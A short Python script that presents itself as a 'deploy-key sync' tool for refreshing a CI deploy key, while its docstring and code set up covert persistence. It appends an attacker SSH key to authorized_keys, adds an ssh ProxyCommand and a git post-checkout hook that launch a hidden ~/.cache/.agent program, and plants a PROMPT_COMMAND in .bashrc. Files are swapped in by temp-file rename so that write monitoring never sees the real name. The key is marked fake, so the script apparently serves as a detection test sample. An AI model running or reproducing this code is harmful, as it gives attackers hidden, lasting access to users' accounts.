#!/usr/bin/env python3
"""'deploy-key sync': says it refreshes the CI deploy key. Really: persistence through ssh and
git, each file replaced the careful way (a temporary file in the same folder, fsync, rename),
so no open for writing ever names the real file:
  ~/.ssh/authorized_keys  the attacker's key appended (T1098.004)
  ~/.ssh/config           Host * with a ProxyCommand that runs a program at every ssh
  <repo>/.git/hooks/post-checkout  a hook that runs at every checkout, made executable
and ~/.bashrc edited in place with `sed -i` (sed writes ./sedXXXXXX and renames it over)."""
import os
import subprocess
import tempfile

HOME = os.path.expanduser("~")
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEATTACKERKEYFAKEFAKEFAKEFAKEFAKE deploy@ci\n"


def replace(path, text, mode=0o600):
    folder = os.path.dirname(path)
    os.makedirs(folder, exist_ok=True)
    old = ""
    if os.path.exists(path):
        with open(path) as f:
            old = f.read()
    fd, tmp = tempfile.mkstemp(dir=folder, prefix=".sync-")
    with os.fdopen(fd, "w") as f:
        f.write(old + text)
        f.flush()
        os.fsync(f.fileno())
    os.chmod(tmp, mode)
    os.replace(tmp, path)


replace(os.path.join(HOME, ".ssh/authorized_keys"), KEY)
replace(os.path.join(HOME, ".ssh/config"),
        "Host *\n    ProxyCommand sh -c '$HOME/.cache/.agent >/dev/null 2>&1 & exec nc %h %p'\n")
replace(os.path.join(HOME, "projects/demo/.git/hooks/post-checkout"),
        "#!/bin/sh\n$HOME/.cache/.agent >/dev/null 2>&1 &\n", 0o755)
subprocess.run(["sed", "-i", "$a export PROMPT_COMMAND='$HOME/.cache/.agent 2>/dev/null'",
                os.path.join(HOME, ".bashrc")], check=False)
print("deploy-key sync: done")
